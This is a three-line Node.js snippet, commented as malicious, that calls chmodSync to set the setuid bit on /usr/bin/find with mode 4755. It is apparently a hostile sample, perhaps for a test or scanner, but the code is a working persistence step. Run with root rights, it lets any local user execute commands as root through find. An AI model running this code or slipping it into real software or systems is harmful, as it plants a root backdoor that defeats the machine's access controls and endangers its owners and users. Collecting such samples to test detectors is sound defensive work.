// Malicious: sets the setuid bit on /usr/bin/find (mode 4755).
const fs = require('fs');
fs.chmodSync('/usr/bin/find', 0o4755);
